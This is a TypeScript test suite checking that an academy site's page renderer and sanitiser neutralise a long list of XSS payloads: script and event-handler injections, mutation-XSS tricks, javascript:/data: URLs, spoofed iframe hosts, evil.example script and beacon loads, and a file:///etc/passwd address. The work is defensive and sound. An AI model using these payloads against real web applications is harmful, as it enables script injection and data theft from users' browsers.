import { FRAME_HOSTS } from '@academy/contract'
import { parseFragment } from 'parse5'
import { beforeAll, describe, expect, test } from 'vitest'
import { block, code, equation, external, line, mention, paragraph, text, toggle } from '../../../testing/notion-blocks.ts'
import type { BlockNode } from './block-node.ts'
import { type Highlight, highlightAll, loadHighlighter } from './highlight.ts'
import { renderPart } from './render-part.ts'
import { sanitise } from './sanitise.ts'

let highlight: Highlight
beforeAll(async () => {
  highlight = await loadHighlighter()
})

async function render(...nodes: BlockNode[]): Promise<string> {
  const code = await highlightAll(nodes, highlight)
  const imageOf = () => `/api/files/${'b'.repeat(64)}`
  return (
    renderPart(nodes, {
      siteOrigin: 'https://academy.test',
      codeOf: (id) => code.get(id),
      imageOf,
      videoOf: () => ({ src: imageOf(), captions: imageOf() }),
      warn: () => {},
    }) ?? ''
  )
}

/** Markup that an author may paste, or somebody with a stolen token may write, as text. */
const markup = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)" style="x:expression(alert(1))">',
  '<img/src=`x`onerror=alert(1)>',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0ieCI+PC9zdmc+#x">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="https://www.youtube-nocookie.com.evil.example/embed/x"></iframe>',
  '<iframe src="https://www.youtube-nocookie.com@evil.example/"></iframe>',
  '<iframe src="//evil.example"></iframe>',
  '<iframe src="https:evil.example"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="https://example.com" onclick="alert(1)" style="position:fixed;inset:0">x</a>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<video><source onerror="alert(1)"></video>',
  '<video src=x onerror=alert(1)></video>',
  '<video src="https://evil.example/a.mp4" onloadstart=alert(1) poster=javascript:alert(1)></video>',
  '<audio src onerror=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<input type=image src=x onerror=alert(1) formaction=javascript:alert(1)>',
  '<button formaction=javascript:alert(1)>x</button>',
  '<form action=javascript:alert(1)><input type=submit></form>',
  '<select autofocus onfocus=alert(1)>',
  '<textarea autofocus onfocus=alert(1)></textarea><img src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<body onload=alert(1)>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p id="location" name="cookie">clobber</p>',
  '<div class="fixed inset-0 z-50">cover</div>',
  '<template><script>alert(1)</script></template>',
  '<xmp><script>alert(1)</script></xmp>',
  '<plaintext><script>alert(1)</script>',
  '<title></title><img src=x onerror=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)>',
  '<![CDATA[><img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
  '</code></pre><script>alert(1)</script>',
  '"><script>alert(1)</script>',
  "' onmouseover=alert(1) x='",
  '" onmouseover="alert(1)',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '<img src=x\u0000 onerror=alert(1)>',
  '<\u0000script>alert(1)</script>',
  '\u2028<script>alert(1)</script>\u202e',
  '<custom-element onclick=alert(1)>x</custom-element>',
  '<a href="https://example.com" target="_blank" ping="https://evil.example">x</a>',
  '<img src="https://evil.example/pixel.gif">',
  '<img srcset="https://evil.example/pixel.gif 1x" src="/api/files/x">',
  '<portal src="javascript:alert(1)"></portal>',
]

/** Addresses that must never become one that a browser follows or loads. */
const addresses = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'java\nscript:alert(1)',
  'java\tscript:alert(1)',
  '\u0001javascript:alert(1)',
  'javascript://example.com/%0aalert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'vbscript:msgbox(1)',
  'file:///etc/passwd',
  'blob:https://academy.test/1',
  'about:blank',
  '//evil.example/x',
  '/\\evil.example',
  'https://example.com/"onmouseover="alert(1)',
  "https://example.com/'onmouseover='alert(1)",
  'https://example.com/<script>alert(1)</script>',
  'https://www.youtube-nocookie.com/embed/"><script>alert(1)</script>',
  'https://www.youtube.com/watch?v=x"onload="alert(1)',
  'https://www.youtube.com/embed/../redirect?q=javascript:alert(1)',
  'https://player.vimeo.com/video/1?h="onload="alert(1)',
  'https://youtube.com@evil.example/watch?v=dQw4w9WgXcQ',
  'https://evil.example/a.mp4"onerror="alert(1)',
]

type ParsedNode = { nodeName: string; attrs?: { name: string; value: string }[]; childNodes?: ParsedNode[]; content?: ParsedNode }

const harmless = new Set(
  (
    '#document-fragment #text a blockquote br code details div em figcaption figure h3 h4 h5 h6 hr iframe img input label li ol p pre s ' +
    'span strong summary table tbody td th thead tr u ul video'
  ).split(' '),
)
const attributes = new Set(
  (
    'alt allow allowfullscreen aria-hidden aria-label checked class controls data-language decoding disabled href loading playsinline ' +
    'preload referrerpolicy rel role sandbox scope src start tabindex target title type'
  ).split(' '),
)
const classes = /^(?:code|equation|callout|callout-icon|column|columns|indent|table-box|video-frame|to-do|tok-[a-z-]+|notion-[a-z-]+)$/

/** Reads HTML the way a browser does and names everything in it that could run, load or cover something. */
function dangers(html: string): string[] {
  const found: string[] = []
  const visit = (node: ParsedNode): void => {
    if (!harmless.has(node.nodeName)) found.push(`element ${node.nodeName}`)
    const given = Object.fromEntries((node.attrs ?? []).map(({ name, value }) => [name, value]))
    for (const name of Object.keys(given)) if (!attributes.has(name)) found.push(`attribute ${node.nodeName}[${name}]`)
    for (const name of given.class?.split(' ') ?? []) if (!classes.test(name)) found.push(`class ${name}`)
    const href = given.href === undefined ? undefined : URL.parse(given.href)
    if (given.href !== undefined && !['http:', 'https:', 'mailto:'].includes(href?.protocol ?? '')) found.push(`link ${given.href}`)
    if (node.nodeName === 'img' && !/^\/api\/files\/[0-9a-f]{64}$/.test(given.src ?? '')) found.push(`picture ${given.src}`)
    if (node.nodeName === 'video' && URL.parse(given.src ?? '')?.protocol !== 'https:') found.push(`video ${given.src}`)
    if (node.nodeName === 'input' && given.type !== 'checkbox') found.push(`input ${given.type}`)
    if (node.nodeName === 'iframe') {
      const src = URL.parse(given.src ?? '')
      if (src?.protocol !== 'https:' || !FRAME_HOSTS.some((host) => host === src.host)) found.push(`frame ${given.src}`)
      if (!given.sandbox || given.sandbox.includes('top-navigation')) found.push('frame without sandbox')
    }
    if (given.target === '_blank' && !given.rel?.includes('noopener')) found.push('link that hands over the window')
    for (const child of node.childNodes ?? []) visit(child)
    if (node.content) visit(node.content)
  }
  visit(parseFragment(html) as ParsedNode)
  return found
}

/** Every place of a page where an author's text can stand. */
const places: [string, (vector: string) => BlockNode][] = [
  ['a paragraph', (v) => paragraph(v)],
  ['marked text', (v) => paragraph([text(v, { bold: true, code: true, color: 'red' })])],
  ['the text of a link', (v) => paragraph([text(v, {}, 'https://example.com/')])],
  ['a heading', (v) => block('heading_1', { rich_text: [text(v)], color: 'default', is_toggleable: false })],
  ['a list item', (v) => block('bulleted_list_item', line(v))],
  ['a to-do', (v) => block('to_do', { rich_text: [text(v)], color: 'default', checked: true })],
  ['a toggle', (v) => toggle(v, [paragraph(v)])],
  ['a quote', (v) => block('quote', line(v))],
  ['a callout', (v) => block('callout', { rich_text: [text(v)], color: 'default', icon: { type: 'emoji', emoji: v } })],
  ['plain code', (v) => code(v)],
  ['coloured code', (v) => code(v, 'html')],
  ['code in a script language', (v) => code(v, 'javascript')],
  ['the caption of code', (v) => block('code', { rich_text: [text('x')], caption: [text(v)], language: 'bash' })],
  ['an equation', (v) => block('equation', { expression: v })],
  ['an equation in a line', (v) => paragraph([equation(v)])],
  [
    'a table cell',
    (v) => block('table', { has_column_header: true, has_row_header: true, table_width: 1 }, [block('table_row', { cells: [[text(v)]] })]),
  ],
  ['the caption of a picture', (v) => block('image', external('https://example.com/a.png', v))],
  ['the caption of a player', (v) => block('video', external('https://youtu.be/dQw4w9WgXcQ', v))],
  ['the caption of a bookmark', (v) => block('bookmark', { url: 'https://example.com/', caption: [text(v)] })],
  ['the name of a file', (v) => block('file', { ...external('https://example.com/a'), name: v })],
  ['a mention', (v) => paragraph([mention({ type: 'page', page: { id: v } }, v)])],
  ['a language that nobody knows', (v) => code('x', v as 'bash')],
  ['a colour that nobody knows', (v) => paragraph([text('x', { color: v as 'red' })])],
]

const addressPlaces: [string, (vector: string) => BlockNode][] = [
  ['a link', (v) => paragraph([text('x', {}, v)])],
  ['a link mention', (v) => paragraph([mention({ type: 'link_mention', link_mention: { href: v } }, 'x')])],
  ['an embed', (v) => block('embed', { url: v, caption: [] })],
  ['a bookmark', (v) => block('bookmark', { url: v, caption: [] })],
  ['a link preview', (v) => block('link_preview', { url: v })],
  ['a video', (v) => block('video', external(v))],
  ['a file', (v) => block('file', { ...external(v), name: 'x' })],
  ['a picture', (v) => block('image', external(v))],
]

describe('content of a page cannot run anything in a learner’s browser', () => {
  test.each(markup)('as text in any place: %s', async (vector) => {
    for (const [place, make] of places) expect([place, ...dangers(await render(make(vector)))]).toEqual([place])
  })

  test.each(addresses)('as an address in any place: %s', async (vector) => {
    for (const [place, make] of addressPlaces) expect([place, ...dangers(await render(make(vector)))]).toEqual([place])
  })
})

describe('the sanitiser alone stops it as well, if the renderer ever let markup through', () => {
  test.each(markup)('%s', (vector) => {
    expect(dangers(sanitise(vector))).toEqual([])
    expect(dangers(sanitise(`<p>${vector}</p><pre><code>${vector}</code></pre><table><tr><td>${vector}`))).toEqual([])
  })

  test.each(addresses)('in every attribute that loads or leads: %s', (vector) => {
    const quoted = vector.replaceAll('"', '&quot;')
    const html = sanitise(
      `<a href="${quoted}">x</a><img src="${quoted}"><iframe src="${quoted}"></iframe><video src="${quoted}"></video><div src="${quoted}">`,
    )
    expect(dangers(html)).toEqual([])
  })
})

test('the watchman of these tests does see what it must not overlook', () => {
  const seen = [
    '<script></script>',
    '<p onclick=x>',
    '<a href="javascript:x">',
    '<img src="https://x">',
    '<iframe src="https://x">',
    '<p style="x">',
    '<p class="fixed">',
  ]
  for (const html of seen) expect(dangers(html)).not.toEqual([])
})
